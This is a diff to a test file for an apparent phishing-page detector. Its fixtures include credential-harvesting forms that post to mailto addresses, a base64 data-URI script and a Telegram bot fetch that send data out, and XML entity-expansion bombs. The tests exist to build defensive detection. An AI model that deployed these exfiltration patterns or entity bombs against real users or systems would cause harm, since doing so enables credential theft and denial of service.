@@ -31,7 +31,7 @@ describe("a page that asks for a password or seed phrase and knows a bot or webh
     ],
     ["a data attribute", { "index.html": page(`<div data-hook="${bot}"></div>`) }],
     ["a form that sends by e-mail", { "index.html": `<form action="mailto:me@collect.example">${PASSWORD}</form>` }],
-    ["another form that sends by e-mail", { "index.html": page(`<form action="MAILTO&colon;x@y.example"></form>`) }],
+    ["the same in other letters", { "index.html": `<form action="MAILTO&colon;x@y.example">${PASSWORD}</form>` }],
     [
       "a script at a data: address",
       { "index.html": page(`<script src="data:text/javascript;base64,${btoa(`fetch("${bot}")`)}"></script>`) },
@@ -106,6 +106,19 @@ describe("a page that asks for a password or seed phrase and knows a bot or webh
       { "index.html": `<form><input type=email></form><script>fetch("${bot}")</script>` },
     ],
     [
+      "a form by e-mail beside one that asks for a password",
+      { "index.html": page(`<form action="mailto:a@b.example"><input name=name></form>`) },
+    ],
+    [
+      "a page that tries a bot's token",
+      {
+        "index.html": page(
+          `<script>fetch("https://api.telegram.org/bot" + t)</script>`,
+          `<input type=password id=bot_token>`,
+        ),
+      },
+    ],
+    [
       "a form by e-mail that asks for a name",
       { "index.html": `<form action="mailto:a@b.example"><input name=name></form>` },
     ],
@@ -130,11 +143,15 @@ describe("a page that cannot be read in the bound is refused with too_complex", 
     ["entities in entities", "a.svg", `<!DOCTYPE svg [<!ENTITY l0 "lol">${lol}]><svg>&l9;</svg>`],
     ["entities that name themselves", "a.svg", `<!DOCTYPE svg [<!ENTITY a "&a;&a;">]><svg>&a;</svg>`],
     ["attributes by document type", "a.xhtml", `<!DOCTYPE html [<!ATTLIST form action CDATA "${EVIL}">]><html/>`],
-    ["bases without end", "a.html", "<base href=x>".repeat(1000)],
-    ["forms in forms without end", "a.html", "<form>".repeat(1000)],
+    ["bases without end in a table", "a.html", `<table>${"<base href=x>".repeat(1000)}`],
+    ["forms in forms without end", "a.html", `<template>${"<form>".repeat(1000)}`],
+    ["forms in forms without end in XML", "a.xhtml", `<html>${"<form>".repeat(1000)}`],
   ])("%s", (_, path, source) => expect(judge({ [path]: source })).toBe("too_complex"));
 
   test("three frames in each other are fine", () => expect(judgePage(nested(3))).toBe("pass"));
+  test("bases and forms that do not count are fine", () => {
+    expect(judgePage("<base href=x>".repeat(1000) + "<form>".repeat(1000))).toBe("pass");
+  });
   type Fill = (piece: string) => string;
   test.each<[what: string, html: (fill: Fill) => string]>([
     ["open elements and end tags without partner", (fill) => fill("<b></i>")],
